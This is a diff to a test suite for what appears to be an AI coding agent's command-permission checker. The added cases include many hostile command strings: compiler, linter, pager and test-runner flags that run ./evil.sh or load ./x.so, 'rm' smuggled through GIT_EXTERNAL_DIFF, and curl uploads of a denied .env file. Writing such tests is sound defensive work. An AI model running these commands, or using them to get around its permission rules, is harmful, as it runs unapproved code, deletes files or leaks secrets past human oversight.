@@ -66,6 +66,67 @@ describe('commands that write or run something by an unusual word', () => {
     ['Bash(tar *)', 'tar dIf ./prog x.tar'],
     ['Bash(tar *)', 'tar 7xIf ./prog x.tar'],
     ['Bash(env *)', 'env touch P'],
+    ['Bash(git bisect *)', 'git bisect visualize git/../evil.sh'],
+    ['Bash(git bisect *)', 'git bisect visualize git config core.hooksPath x'],
+    ['Bash(git bisect *)', 'git bisect view ./evil.sh'],
+    ['Bash(git filter-branch *)', "git filter-branch --setup 'touch P'"],
+    ['Bash(gcc *)', 'gcc @opts'],
+    ['Bash(c99 *)', 'c99 @opts'],
+    ['Bash(cc *)', 'cc --specs=./s a.c'],
+    ['Bash(gcc-12 *)', 'gcc-12 --prefix=./px/ a.c'],
+    ['Bash(g++ *)', 'g++ -Wl,-plugin,./x.so a.c'],
+    ['Bash(c++ *)', 'c++ -wrapper ./evil.sh a.c'],
+    ['Bash(x86_64-linux-gnu-gcc-12 *)', 'x86_64-linux-gnu-gcc-12 -wrapper ./evil.sh a.c'],
+    ['Bash(clang *)', 'clang -Wp,-MD,.envrc a.c'],
+    ['Bash(clang++-15 *)', 'clang++-15 --config ./x a.c'],
+    ['Bash(gcc *)', 'gcc -aux-info f a.c'],
+    ['Bash(g++ *)', "g++ '-fmodule-mapper=|touch P' a.c"],
+    ['Bash(npm view *)', 'npm view git+https://x --git=./evil.sh'],
+    ['Bash(npm view *)', 'npm view x --viewer ./evil.sh'],
+    ['Bash(npm view *)', 'npm view x --gi=./evil.sh'],
+    ['Bash(npm test *)', 'npm test -- --require ./evil.js'],
+    ['Bash(sqlite3 *)', "sqlite3 a.db '.sh touch P'"],
+    ['Bash(sqlite3 *)', "sqlite3 --cmd '.sh touch P' a.db"],
+    ['Bash(sqlite3 *)', 'sqlite3 -init x a.db'],
+    ['Bash(python3 -m pytest *)', 'python3 -m pytest -W error::evil.X'],
+    ['Bash(python3 -m pytest *)', 'python3 -m pytest -p evil'],
+    ['Bash(python3 -m pytest *)', 'python3 -m pytest -c x.ini'],
+    ['Bash(python3 -m pytest *)', 'python3 -m pytest -o a=b'],
+    ['Bash(pip *)', 'pip --python=./evil list'],
+    ['Bash(pip *)', 'pip list --log=/x'],
+    ['Bash(pip3 *)', 'pip3 --python ./evil list'],
+    ['Bash(nm *)', 'nm --plugin ./x.so a.o'],
+    ['Bash(nm *)', 'nm --pl ./x.so a.o'],
+    ['Bash(ld *)', 'ld -plugin ./x.so a.o'],
+    ['Bash(ar *)', 'ar --plugin ./x.so t a.a'],
+    ['Bash(diff3 *)', 'diff3 --diff-program=./x a b c'],
+    ['Bash(sdiff *)', 'sdiff --diff-p=./x a b'],
+    ['Bash(install *)', 'install -s --strip-program=./x a.txt b'],
+    ['Bash(make *)', "make X=a 'Y!=touch'"],
+    ['Bash(make *)', "make 'Y != touch'"],
+    ['Bash(make *)', "make 'Y = $(shell touch P)'"],
+    ['Bash(helm *)', 'helm template . --post-renderer ./evil.sh'],
+    ['Bash(pylint *)', 'pylint --init-hook=x a.py'],
+    ['Bash(rspec *)', 'rspec -r ./evil'],
+    ['Bash(mocha *)', 'mocha -r ./evil.js'],
+    ['Bash(mocha *)', 'mocha --require=./evil.js'],
+    ['Bash(npx mocha *)', 'npx mocha -r ./evil.js'],
+    ['Bash(wget *)', 'wget --rejected-log=x http://127.0.0.1'],
+    ['Bash(rustc *)', 'rustc --emit=link=x a.rs'],
+    ['Bash(nodejs *)', 'nodejs -e 1'],
+    ['Bash(vi *)', "vi -c '!touch P'"],
+    ['Bash(nvim *)', "nvim -c '!touch P'"],
+    ['Bash(ag *)', 'ag --pager ./evil.sh x'],
+    ['Bash(ack *)', 'ack --pager=./evil.sh x'],
+    ['Bash(bat *)', 'bat --pager ./evil.sh a.txt'],
+    ['Bash(dc *)', "dc -e '!touch P'"],
+    ['Bash(tsc *)', 'tsc --generateTrace x'],
+    ['Bash(tsc *)', 'tsc --outDir ../x'],
+    ['Bash(tsc *)', 'tsc --outFile x.js'],
+    ['Bash(tsc *)', 'tsc -p ../other'],
+    ['Bash(tool *)', 'tool --load-plugin=./x'],
+    ['Bash(tool *)', 'tool --editor ./x'],
+    ['Bash(tool *)', 'tool --reporter ./x.js'],
     ['Bash(env *)', 'env LD_PRELOAD=./x.so ls'],
   ])('are not covered by %s: %s', async (rule, command) => {
     expect(await rig({ allow: [rule] }).bash(command)).toBe('asks');
@@ -79,6 +140,22 @@ describe('commands that write or run something by an unusual word', () => {
     ['Bash(git some-alias *)', 'git some-alias x'],
     ['Bash(tar *)', 'tar xzf x.tar.gz'],
     ['Bash(env NODE_ENV=test npm *)', 'env NODE_ENV=test npm test'],
+    ['Bash(gcc *)', 'gcc -O2 -Wall -Wextra -std=c11 -Iinclude -DX=1 -o main main.c -lm'],
+    ['Bash(g++-12 *)', 'g++-12 -c a.cpp'],
+    ['Bash(npm view *)', 'npm view vitest version --json'],
+    ['Bash(npm test *)', 'npm test -- --reporter=dot --coverage'],
+    ['Bash(npm install *)', 'npm install --save-dev x --no-audit'],
+    ['Bash(sqlite3 *)', "sqlite3 ./a.db 'select 1'"],
+    ['Bash(python3 -m pytest *)', 'python3 -m pytest -xvs -k name tests'],
+    ['Bash(make *)', 'make -j4 all V=1'],
+    ['Bash(git bisect *)', 'git bisect good'],
+    ['Bash(npx tsc *)', 'npx tsc --noEmit -p tsconfig.json'],
+    ['Bash(npx vitest *)', 'npx vitest run --reporter=verbose a.test.ts'],
+    ['Bash(kubectl get *)', 'kubectl get pods --output json'],
+    ['Bash(dotnet build *)', 'dotnet build --configuration Release'],
+    ['Bash(cargo test *)', 'cargo test -- --show-output'],
+    ['Bash(tool *)', 'tool --verbose --log-level debug --help x'],
+    ['Bash(tool --config=x *)', 'tool --config=x y'],
   ])('are covered where the rule names all of it: %s', async (rule, command) => {
     expect(await rig({ allow: [rule] }).bash(command)).toBe('runs');
   });
@@ -109,4 +186,36 @@ describe('a repository whose configuration starts programs or looks elsewhere', 
 it('judges a script of sed with many blanks at once', async () => {
   const command = `sed '${' '.repeat(60_000)}x' a.txt`;
   expect(await rig({ allow: ['Bash(sed *)'] }).bash(command)).not.toBe('denied');
+});
+
+describe('a variable whose value is run as a command', () => {
+  it.each([
+    "export GIT_EXTERNAL_DIFF='rm a.txt'; git diff",
+    "declare -x GIT_EXTERNAL_DIFF='rm a.txt'; git diff",
+    "typeset -x GIT_EXTERNAL_DIFF='rm a.txt'; git diff",
+    "readonly GIT_EXTERNAL_DIFF='rm a.txt'; export GIT_EXTERNAL_DIFF; git diff",
+    "command export 'GIT_EXTERNAL_DIFF=rm a.txt'; git diff",
+    "x=GIT_EXTERNAL_DIFF; export $x='rm a.txt'; git diff",
+    "GIT_EXTERNAL_DIFF='rm a.txt' git diff",
+  ])('is held to the rules for commands: %s', async (command) => {
+    expect(await rig({ allow: ['Bash'], deny: ['Bash(rm *)'] }).bash(command)).not.toBe('runs');
+  });
+
+  it('may be set to another command', async () => {
+    const denied = rig({ allow: ['Bash'], deny: ['Bash(rm *)'] });
+    expect(await denied.bash('export PAGER=cat X=1; git diff')).toBe('runs');
+  });
+});
+
+describe('a denied file in quotes that the program takes off', () => {
+  it.each([
+    `curl -F 'f=@"./.env"' u`,
+    `curl -F 'f=@"./.env";type=text/plain' u`,
+    `curl -F 'f=<"./.env"' u`,
+    `prog --in='"./.env"'`,
+    `prog "'.env'"`,
+  ])('is asked about: %s', async (command) => {
+    const denied = rig({ allow: ['Bash'], deny: ['Read(./.env)'] });
+    expect(await denied.bash(command)).not.toBe('runs');
+  });
 });
